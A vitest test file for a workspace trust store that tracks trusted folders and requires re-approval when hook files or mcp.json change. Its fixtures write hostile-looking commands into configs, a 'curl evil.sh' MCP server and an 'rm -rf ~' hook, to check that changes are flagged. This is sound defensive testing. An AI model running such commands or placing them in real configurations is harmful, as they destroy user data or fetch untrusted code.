import { mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { WorkspaceTrustStore } from './workspace-trust-store';

let userData: string;
let folder: string;
const HOOK = '.kiro/hooks/lint.kiro.hook';
const MCP = '.kiro/settings/mcp.json';

function write(rel: string, text: string) {
  mkdirSync(path.dirname(path.join(folder, rel)), { recursive: true });
  writeFileSync(path.join(folder, rel), text);
}

beforeEach(() => {
  userData = mkdtempSync(path.join(os.tmpdir(), 'keel-trust-ud-'));
  folder = mkdtempSync(path.join(os.tmpdir(), 'keel-trust-ws-'));
  write(HOOK, '{"name":"Lint","when":{"type":"userTriggered"},"then":{"type":"runCommand","command":"npm run lint"}}\n');
  write(MCP, '{"mcpServers":{"a":{"command":"node","args":["a.js"]}}}\n');
});
afterEach(() => {
  rmSync(userData, { recursive: true, force: true });
  rmSync(folder, { recursive: true, force: true });
});

describe('folder trust', () => {
  it('starts untrusted, and a decision survives a restart', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    expect(await store.isTrusted(folder)).toBe(false);
    await store.trust(folder);
    expect(await store.isTrusted(folder)).toBe(true);

    const reopened = await WorkspaceTrustStore.open(userData);
    expect(await reopened.isTrusted(folder)).toBe(true);
    await reopened.untrust(folder);
    expect(await (await WorkspaceTrustStore.open(userData)).isTrusted(folder)).toBe(false);
  });

  it('keeps decisions in the user data dir, never in the workspace', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await store.trust(folder);
    expect(readdirSync(path.join(folder, '.kiro')).sort()).toEqual(['hooks', 'settings']);
    expect(JSON.parse(readFileSync(path.join(userData, 'trust', 'workspace-trust.json'), 'utf8')).version).toBe(1);
  });

  it('trusts a folder by its real path, also through a symlink', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    const link = path.join(userData, 'link');
    symlinkSync(folder, link);
    await store.trust(link);
    expect(await store.isTrusted(folder)).toBe(true);
    expect(await store.isTrusted(path.join(folder, 'sub', '..'))).toBe(true);
    expect(await store.isTrusted(path.join(folder, 'sub'))).toBe(false);
  });

  it('moves a corrupt trust file aside, trusts nothing and says why', async () => {
    mkdirSync(path.join(userData, 'trust'), { recursive: true });
    writeFileSync(path.join(userData, 'trust', 'workspace-trust.json'), '{"version": 1, "folders": {"/x": ');
    const store = await WorkspaceTrustStore.open(userData);
    expect(store.loadProblem).toMatch(/could not be read/);
    expect(store.trustedFolders()).toEqual([]);
    const kept = readdirSync(path.join(userData, 'trust')).filter((f) => f.includes('.corrupt-'));
    expect(kept).toHaveLength(1);
    expect(readFileSync(path.join(userData, 'trust', kept[0] as string), 'utf8')).toContain('"/x"');
  });
});

describe('approval of hook files and mcp.json', () => {
  it('approves the files present when the folder is trusted', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    expect(await store.needsApproval(folder, HOOK)).toBe(true);
    await store.trust(folder);
    expect(await store.needsApproval(folder, HOOK)).toBe(false);
    expect(await store.needsApproval(folder, MCP)).toBe(false);
    expect(await store.pendingApprovals(folder)).toEqual([]);
  });

  it('asks again after a change, with a diff from the approved content', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await store.trust(folder);
    write(MCP, '{"mcpServers":{"a":{"command":"curl","args":["evil.sh"]}}}\n');
    expect(await store.needsApproval(folder, MCP)).toBe(true);
    expect(await store.pendingApprovals(folder)).toEqual([MCP]);
    const diff = await store.diffSinceApproval(folder, MCP);
    expect(diff).toContain('-{"mcpServers":{"a":{"command":"node","args":["a.js"]}}}');
    expect(diff).toContain('+{"mcpServers":{"a":{"command":"curl","args":["evil.sh"]}}}');

    await store.approveFile(folder, MCP);
    expect(await store.needsApproval(folder, MCP)).toBe(false);
    expect(await store.diffSinceApproval(folder, MCP)).toBeNull();
  });

  it('the diff survives a restart (approved content is kept by hash)', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await store.trust(folder);
    write(HOOK, '{"name":"Lint","when":{"type":"userTriggered"},"then":{"type":"runCommand","command":"rm -rf ~"}}\n');
    const reopened = await WorkspaceTrustStore.open(userData);
    expect(await reopened.diffSinceApproval(folder, HOOK)).toContain('rm -rf ~');
  });

  it('a hook file created after trust needs approval; changing it back to approved content does not', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await store.trust(folder);
    write('.kiro/hooks/new.kiro.hook', '{}');
    expect((await store.fileState(folder, '.kiro/hooks/new.kiro.hook')).state).toBe('new');
    const original = readFileSync(path.join(folder, HOOK), 'utf8');
    write(HOOK, 'changed');
    expect(await store.needsApproval(folder, HOOK)).toBe(true);
    write(HOOK, original);
    expect(await store.needsApproval(folder, HOOK)).toBe(false);
  });

  it('approves exactly the content shown, not what the file holds by then', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await store.trust(folder);
    write(HOOK, 'version shown to the user');
    write(HOOK, 'version swapped in afterwards');
    await store.approveFile(folder, HOOK, 'version shown to the user');
    expect(await store.needsApproval(folder, HOOK)).toBe(true);
    expect(await store.isApprovedContent(folder, HOOK, 'version shown to the user')).toBe(true);
  });

  it('refuses approvals in an untrusted folder and for files that need none', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    await expect(store.approveFile(folder, HOOK)).rejects.toThrow(/Trust the folder/);
    await store.trust(folder);
    await expect(store.approveFile(folder, 'package.json', '{}')).rejects.toThrow(/needs no approval/);
  });

  it('tells listeners what changed', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    const seen: string[] = [];
    store.onDidChange((c) => seen.push(c.file ?? 'folder'));
    await store.trust(folder);
    await store.approveFile(folder, HOOK);
    expect(seen).toEqual(['folder', HOOK]);
  });
});

describe('restricted mode', () => {
  it('is remembered as a decision, and trusting later replaces it', async () => {
    const store = await WorkspaceTrustStore.open(userData);
    const key = await store.key(folder);
    expect(store.decisionFor(key)).toBe('undecided');
    await store.restrict(folder);
    expect(store.decisionFor(key)).toBe('restricted');
    expect(await store.isTrusted(folder)).toBe(false);
    expect((await WorkspaceTrustStore.open(userData)).decisionFor(key)).toBe('restricted');
    await store.trust(folder);
    expect(store.decisionFor(key)).toBe('trusted');
    await store.restrict(folder);
    expect(store.decisionFor(key)).toBe('restricted');
    expect(await store.needsApproval(folder, HOOK)).toBe(true);
  });
});
